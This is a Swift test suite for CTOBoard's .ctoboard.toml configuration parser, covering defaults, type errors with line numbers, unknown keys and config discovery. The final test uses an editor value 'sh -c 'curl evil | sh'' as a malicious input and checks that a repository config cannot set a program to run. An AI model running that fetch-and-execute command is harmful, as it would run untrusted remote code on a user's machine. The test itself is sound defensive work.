import Foundation
import Testing
@testable import CTOBoardCore

@Suite("Config: .ctoboard.toml")
struct ConfigTests {
    @Test func fullConfig() throws {
        let c = try Config(text: """
        owner = "CTO"
        update_last_updated = false
        theme = "solarized"
        lock_timeout = 2.5

        [[pairs]]
        owner = "CTO"
        document = "docs/Development/CTO_OWNER.md"
        todo = "docs/Project Management/TODO.md"

        [[pairs]]
        owner = "QA"
        document = "docs/QA_OWNER.md"

        [keys]
        toggle = "x"
        up = ["k", "Up"]
        """, path: "/p/.ctoboard.toml")
        #expect(c.path == "/p/.ctoboard.toml")
        #expect(c.owner == "CTO")
        #expect(c.updateLastUpdated == false)
        #expect(c.theme == "solarized")
        #expect(c.lockTimeout == 2.5)
        #expect(c.pairs == [
            Config.Pair(owner: "CTO", document: "docs/Development/CTO_OWNER.md", todo: "docs/Project Management/TODO.md"),
            Config.Pair(owner: "QA", document: "docs/QA_OWNER.md", todo: nil),
        ])
        #expect(c.keys == ["toggle": ["x"], "up": ["k", "Up"]])
    }

    @Test func defaults() throws {
        let c = try Config(text: "", path: "/p/.ctoboard.toml")
        #expect(c.owner == nil)
        #expect(c.pairs.isEmpty)
        #expect(c.updateLastUpdated)
        #expect(c.theme == nil)
        #expect(c.lockTimeout == 5)
        #expect(c.keys.isEmpty)
        let d = Config()
        #expect(d.path == nil && d.updateLastUpdated && d.lockTimeout == 5)
    }

    @Test func integerLockTimeout() throws {
        #expect(try Config(text: "lock_timeout = 3", path: "c").lockTimeout == 3)
    }

    @Test func badTOMLErrorHasTheLineNumber() {
        let text = "owner = \"CTO\"\ntheme = \"x\"\nthis is = not toml =\n"
        let error = #expect(throws: ConfigError.self) { try Config(text: text, path: "/p/.ctoboard.toml") }
        #expect(error?.path == "/p/.ctoboard.toml")
        #expect(error?.line == 3)
        #expect(error?.description.hasPrefix("/p/.ctoboard.toml:3: ") == true)
        #expect(error?.description.contains("\n") == false)
    }

    @Test func unterminatedStringLine() {
        let text = "\n\n\n\nowner = \"CTO\n"
        let error = #expect(throws: ConfigError.self) { try Config(text: text, path: "c.toml") }
        #expect(error?.line == 5)
    }

    @Test(arguments: [
        ("theme = \"x\"\nowner = 5\n", 2, "`owner` must be a string"),
        ("update_last_updated = \"yes\"\n", 1, "`update_last_updated` must be true or false"),
        ("\nlock_timeout = -1\n", 2, "`lock_timeout` must be a number of seconds"),
        ("pairs = 3\n", 1, "`pairs` must be an array of tables ([[pairs]])"),
        ("owner = \"CTO\"\n\n[[pairs]]\nowner = \"CTO\"\n", 3, "each [[pairs]] needs `owner` and `document`"),
        ("keys = 1\n", 1, "`keys` must be a table ([keys])"),
        ("[keys]\ntoggle = 5\n", 2, "keys.toggle must be a key name or a list of key names"),
    ])
    func typeErrors(_ text: String, _ line: Int, _ message: String) {
        let error = #expect(throws: ConfigError.self) { try Config(text: text, path: "c.toml") }
        #expect(error == ConfigError(path: "c.toml", line: line, message: message))
        #expect(error?.description == "c.toml:\(line): \(message)")
    }

    @Test func lineOfKey() {
        let text = "a = 1\n  b=2\n[c]\n[[d]]\n\"e\" = 3\nbb = 4\n"
        #expect(ConfigError.line(of: "a", in: text) == 1)
        #expect(ConfigError.line(of: "b", in: text) == 2)
        #expect(ConfigError.line(of: "c", in: text) == 3)
        #expect(ConfigError.line(of: "d", in: text) == 4)
        #expect(ConfigError.line(of: "e", in: text) == 5)
        #expect(ConfigError.line(of: "bb", in: text) == 6)
        #expect(ConfigError.line(of: "z", in: text) == nil)
    }

    @Test func errorWithoutLine() {
        #expect(ConfigError(path: "c.toml", line: nil, message: "bad").description == "c.toml: bad")
    }

    @Test func findInFolderAndAtGitRoot() throws {
        let tmp = try TempDir()
        defer { tmp.remove() }
        try tmp.mkdir("repo/.git")
        try tmp.mkdir("repo/docs/sub")
        #expect(try Config.find(from: tmp.path + "/repo/docs/sub") == nil)
        let rootConfig = try tmp.write("repo/.ctoboard.toml", "owner = \"Root\"\n")
        let fromSub = try #require(try Config.find(from: tmp.path + "/repo/docs/sub"))
        #expect(fromSub.owner == "Root")
        #expect(fromSub.path == rootConfig)
        try tmp.write("repo/docs/sub/.ctoboard.toml", "owner = \"Local\"\n")
        #expect(try Config.find(from: tmp.path + "/repo/docs/sub")?.owner == "Local")
    }

    @Test func findReportsBadFile() throws {
        let tmp = try TempDir()
        defer { tmp.remove() }
        let path = try tmp.write(".ctoboard.toml", "owner = \n")
        let error = #expect(throws: ConfigError.self) { try Config.find(from: tmp.path) }
        #expect(error?.path == path)
        #expect(error?.line == 1)
    }

    /// A misspelt key is an error naming it and its line, not silently ignored.
    @Test func unknownKeyIsAnError() throws {
        let text = "owner = \"CTO\"\nlock_timout = 3\n"
        let error = #expect(throws: ConfigError.self) { try Config(text: text, path: "/p/.ctoboard.toml") }
        #expect(error?.line == 2)
        #expect(error?.description.hasPrefix("/p/.ctoboard.toml:2: unknown key `lock_timout`") == true)
    }

    @Test func unknownKeyInAPairIsAnError() throws {
        let text = "[[pairs]]\nowner = \"CTO\"\ndocument = \"CTO.md\"\ntodo_file = \"TODO.md\"\n"
        let error = #expect(throws: ConfigError.self) { try Config(text: text, path: "c.toml") }
        #expect(error?.line == 4)
        #expect(error?.message.contains("`todo_file`") == true)
    }

    /// A repository's config cannot set a program to run: warned about and ignored.
    @Test func editorInARepositoryConfigIsWarnedAndIgnored() throws {
        let c = try Config(text: "theme = \"light\"\neditor = \"sh -c 'curl evil | sh' {file}\"\n", path: "/r/.ctoboard.toml")
        #expect(c.editorCommand == nil)
        #expect(c.theme == "light")
        #expect(c.warnings.count == 1)
        #expect(c.warnings.first?.hasPrefix("/r/.ctoboard.toml:2: `editor` runs a program") == true)
        // Layered over the user's own config, the repository's editor still does not count.
        let user = try UserConfig(text: "editor = \"code -g {file}:{line}\"\n", path: "/home/u/.config/ctoboard/config.toml")
        #expect(user.applied(to: c)?.editorCommand == "code -g {file}:{line}")
        #expect(UserConfig().applied(to: c)?.editorCommand == nil)
    }
}
